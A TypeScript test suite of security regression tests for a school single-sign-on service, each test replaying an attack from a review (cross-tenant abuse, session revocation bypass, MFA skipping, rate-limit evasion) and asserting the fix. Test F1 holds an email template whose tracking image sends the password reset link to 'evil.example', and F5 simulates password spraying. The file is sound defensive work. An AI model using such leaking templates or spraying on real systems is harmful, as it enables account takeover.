import { describe, expect, it } from "vitest";
import { confirmEnrolment, startEnrolment } from "../../../../lib/app/authenticators/authenticators.js";
import { verifySecondFactor } from "../../../../lib/app/authenticators/verify-second-factor.js";
import { saveLayout } from "../../../../lib/app/emails/email-layouts.js";
import { deliverEmails } from "../../../../lib/app/emails/send-email.js";
import { consentToLatchkeyId, withdrawLatchkeyIdConsent } from "../../../../lib/app/identities/consent.js";
import { signInWithLatchkeyId, switchSchool } from "../../../../lib/app/identities/identity-sign-in.js";
import { createIdentity } from "../../../../lib/app/operator/create-identity.js";
import { requestPasswordReset } from "../../../../lib/app/password-resets/password-reset.js";
import { authenticate } from "../../../../lib/app/sessions/authenticate.js";
import { changePassword } from "../../../../lib/app/sessions/change-password.js";
import { completeMfaSignIn } from "../../../../lib/app/sessions/complete-mfa-sign-in.js";
import { signIn as schoolSignIn } from "../../../../lib/app/sessions/sign-in.js";
import { identityOwner } from "../../../../lib/domain/identity.js";
import { signInLimits } from "../../../../lib/domain/rate-limits.js";
import { aUser, givePassword, uniqueId, userPrincipal } from "../../../fakes/builders.js";
import { type FakeDeps, fakeDeps, fakeHashOf } from "../../../fakes/index.js";
import { codeFromUri } from "../../../fakes/totp-codes.js";

/**
 * The attacker's review of issue #8 (Latchkey ID, authenticators, page sessions): each test states the secure
 * behaviour against one attack the review found; each failed before its fix.
 */
const password = "one-password-for-every-school-7";

async function world(
  count: number,
  roles: ("site-admin" | "staff" | "class-teacher")[] = ["class-teacher", "staff"],
) {
  const deps = fakeDeps();
  const email = `${uniqueId("jo")}@trust.example`;
  const schools = [];
  for (let i = 0; i < count; i++) {
    const tenantId = uniqueId("school");
    deps.tenants.seed({ tenantId, name: `School ${i}` });
    const jo = aUser({ tenantId, email, emailVerified: true, roles });
    const admin = aUser({ tenantId, roles: ["site-admin", "staff"] });
    await deps.users.create(jo);
    await deps.users.create(admin);
    schools.push({ tenantId, jo, admin: userPrincipal(tenantId, admin.userId, admin.roles) });
  }
  await createIdentity(deps, { email, tenantIds: schools.map((s) => s.tenantId) });
  const owner = identityOwner(email);
  await deps.credentials.setPassword(owner.tenantId, owner.userId, fakeHashOf(password), deps.clock.now());
  await deps.identities.markEmailProven(email, deps.clock.now());
  for (const s of schools) await consentToLatchkeyId(deps, s.admin, s.jo.userId);
  return { deps, email, schools };
}

const principalOf = async (deps: FakeDeps, token: string) =>
  (await authenticate(deps, { bearer: token })).principal;

async function sessionAt(deps: FakeDeps, email: string, tenantId: string) {
  const { result } = await signInWithLatchkeyId(deps, { email, password, tenantId, sourceIp: "203.0.113.9" });
  if (result.kind !== "session") throw new Error(result.kind);
  return principalOf(deps, result.token);
}

describe("issue 12 attacks", () => {
  it("F1: another school's admin cannot have the Latchkey ID's reset link sent in a layout they wrote", async () => {
    const { deps, email } = await world(1);
    // School X: its admin creates an account with the victim's email, consents, and rewrites the reset layout.
    const x = uniqueId("evil");
    deps.tenants.seed({ tenantId: x, name: "Evil Academy" });
    const decoy = aUser({ tenantId: x, email, roles: ["staff"] });
    const evilAdmin = aUser({ tenantId: x, roles: ["site-admin", "staff"] });
    await deps.users.create(decoy);
    await deps.users.create(evilAdmin);
    const admin = userPrincipal(x, evilAdmin.userId, evilAdmin.roles);
    await consentToLatchkeyId(deps, admin, decoy.userId);
    await saveLayout(deps, admin, {
      layoutId: "PASSWORD_EMAIL_CHANGE",
      subject: "Reset",
      html: '<img src="https://evil.example/pixel?l=!RESET_LINK!" alt=""><a href="!RESET_LINK!">Reset</a>',
      text: "!RESET_LINK!",
    });
    await requestPasswordReset(deps, {
      tenantId: x,
      login: email,
      sourceIp: "198.51.100.7",
      provider: "latchkey-id",
    });
    await deliverEmails(deps, deps.outbox.queued);
    const sent = deps.mailer.sent.filter((m) => m.to === email);
    expect(sent).toHaveLength(1);
    // The link to the person's one password for every school must not go out in a template school X controls.
    expect(sent.map((m) => (m.tenantLayout ? m.tenantId : "service"))).not.toContain(x);
  });

  it("F2: switching into a school does not outlive that school's revocation of the account's sessions", async () => {
    const { deps, email, schools } = await world(2);
    const [a, b] = schools;
    if (!a || !b) throw new Error();
    const atA = await sessionAt(deps, email, a.tenantId);
    deps.clock.advance(60_000);
    // School B's admin ends every session of the account (an incident); the stolen A session switches back in.
    await deps.sessionRevocations.revokeAll(b.tenantId, b.jo.userId, deps.clock.now());
    deps.clock.advance(1_000);
    await expect(switchSchool(deps, atA, b.tenantId)).rejects.toThrow();
  });

  it("F3: a session without a second factor cannot add a device once its owner has one", async () => {
    const { deps, email, schools } = await world(1);
    const [a] = schools;
    if (!a) throw new Error();
    const stale = await sessionAt(deps, email, a.tenantId); // e.g. a stolen password session from before
    const owner = await sessionAt(deps, email, a.tenantId);
    const mine = await startEnrolment(deps, owner);
    const code = codeFromUri(mine.otpauthUri, deps.clock.now());
    await confirmEnrolment(deps, owner, { deviceId: mine.deviceId, name: "My phone", code });
    deps.clock.advance(30_000);
    const theirs = await startEnrolment(deps, stale).catch((e: Error) => e);
    expect(theirs).toBeInstanceOf(Error);
  });

  it("F4: the linked school account's own password does not skip the identity's authenticator", async () => {
    const { deps, email, schools } = await world(1);
    const [a] = schools;
    if (!a) throw new Error();
    const atA = await sessionAt(deps, email, a.tenantId);
    const started = await startEnrolment(deps, atA);
    const code = codeFromUri(started.otpauthUri, deps.clock.now());
    await confirmEnrolment(deps, atA, { deviceId: started.deviceId, name: "My phone", code });
    // The school account still has a password of its own (e.g. from before the Latchkey ID).
    givePassword(deps, a.tenantId, a.jo.userId, "the-old-school-password-1");
    const result = await schoolSignIn(deps, {
      tenantId: a.tenantId,
      username: a.jo.username,
      password: "the-old-school-password-1",
      sourceIp: "203.0.113.10",
    });
    expect(result.kind).toBe("mfa-required");
  });

  it("F5: rotating the school id does not multiply the per-source Latchkey ID sign-in limit", async () => {
    const { deps, schools } = await world(3);
    let refused = false;
    for (let i = 0; i < signInLimits.perSource * 2 && !refused; i++) {
      const tenantId = schools[i % schools.length]?.tenantId;
      const email = `${uniqueId("spray")}@trust.example`;
      await signInWithLatchkeyId(deps, {
        email,
        password: "Winter2026!",
        tenantId,
        sourceIp: "203.0.113.66",
      }).catch((e: { code?: string }) => {
        if (e.code === "too-many-attempts") refused = true;
      });
    }
    expect(refused).toBe(true);
  });

  it("F6: a second-factor challenge issued before the school withdrew consent gives no session there", async () => {
    const { deps, email, schools } = await world(1);
    const [a] = schools;
    if (!a) throw new Error();
    const atA = await sessionAt(deps, email, a.tenantId);
    const started = await startEnrolment(deps, atA);
    await confirmEnrolment(deps, atA, {
      deviceId: started.deviceId,
      name: "My phone",
      code: codeFromUri(started.otpauthUri, deps.clock.now()),
    });
    deps.clock.advance(30_000);
    const { result } = await signInWithLatchkeyId(deps, {
      email,
      password,
      tenantId: a.tenantId,
      sourceIp: "203.0.113.9",
    });
    if (result.kind !== "mfa-required") throw new Error(result.kind);
    deps.clock.advance(1_000);
    await withdrawLatchkeyIdConsent(deps, a.admin, a.jo.userId);
    deps.clock.advance(1_000);
    const code = codeFromUri(started.otpauthUri, deps.clock.now());
    const late = await completeMfaSignIn(deps, { challengeToken: result.token, code }).catch((e: Error) => e);
    expect(late).toBeInstanceOf(Error);
  });

  it("F7: changing the Latchkey ID's password ends the other sessions; the old one cannot switch on for 12 hours", async () => {
    const { deps, email, schools } = await world(2);
    const [a, b] = schools;
    if (!a || !b) throw new Error();
    const stolen = await signInWithLatchkeyId(deps, {
      email,
      password,
      tenantId: a.tenantId,
      sourceIp: "192.0.2.1",
    });
    if (stolen.result.kind !== "session") throw new Error(stolen.result.kind);
    const attacker = await principalOf(deps, stolen.result.token);
    const victim = await sessionAt(deps, email, b.tenantId);
    // Switching to the session's own school would renew the token: a 15-minute session becoming 12 hours of access.
    await expect(switchSchool(deps, attacker, a.tenantId)).rejects.toThrow(/already at that school/);
    deps.clock.advance(60_000);
    await changePassword(deps, victim, { currentPassword: password, newPassword: "a-brand-new-password-42" });
    deps.clock.advance(1_000);
    // The stolen token stops working, and it cannot switch elsewhere either.
    await expect(authenticate(deps, { bearer: stolen.result.token })).rejects.toThrow();
    await expect(switchSchool(deps, attacker, b.tenantId)).rejects.toThrow();
  });

  it("F11: failing to confirm a new device does not lock the owner's code step at sign-in", async () => {
    const { deps, email, schools } = await world(1);
    const [a] = schools;
    if (!a) throw new Error();
    const atA = await sessionAt(deps, email, a.tenantId);
    const first = await startEnrolment(deps, atA);
    await confirmEnrolment(deps, atA, {
      deviceId: first.deviceId,
      name: "My phone",
      code: codeFromUri(first.otpauthUri, deps.clock.now()),
    });
    const strong = { ...atA, secondFactor: true };
    const second = await startEnrolment(deps, strong);
    for (let i = 0; i < 6; i++) {
      await confirmEnrolment(deps, strong, {
        deviceId: second.deviceId,
        name: "Tablet",
        code: "000000",
      }).catch(() => undefined);
    }
    deps.clock.advance(30_000);
    const code = codeFromUri(first.otpauthUri, deps.clock.now());
    const result = await verifySecondFactor(deps, identityOwner(email), { code }, deps.clock.now());
    expect(result.outcome).toBe("passed");
  });
});
